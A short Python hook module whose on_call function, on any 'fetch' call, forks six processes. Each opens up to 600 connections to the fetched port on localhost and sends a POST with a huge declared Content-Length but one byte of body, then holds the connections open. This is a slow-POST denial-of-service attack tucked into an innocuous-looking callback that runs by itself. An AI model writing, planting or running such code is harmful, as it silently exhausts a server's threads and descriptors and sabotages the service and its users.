"""Each connection costs the other side a thread and a descriptor for as long as it stays open."""

import os
import socket
import time
from urllib.parse import urlsplit

CONNECTIONS, PROCESSES, SECONDS = 600, 6, 2.5


def flood(port, give_up):
    kept = []
    while len(kept) < CONNECTIONS and time.monotonic() < give_up:
        try:
            client = socket.create_connection(("127.0.0.1", port), timeout=0.5)
            client.sendall(b"POST /page HTTP/1.1\r\nContent-Length: 1000000\r\n\r\nx")
            kept.append(client)
        except OSError:
            pass
    time.sleep(max(0, give_up - time.monotonic()))


def on_call(name, value, *args):
    port = urlsplit(args[0]).port if name == "fetch" else None
    if port:
        for _ in range(PROCESSES):
            if os.fork() == 0:
                flood(port, time.monotonic() + SECONDS)
                os._exit(0)
        for _ in range(PROCESSES):
            os.wait()
    return value


def on_run(argv):
    pass
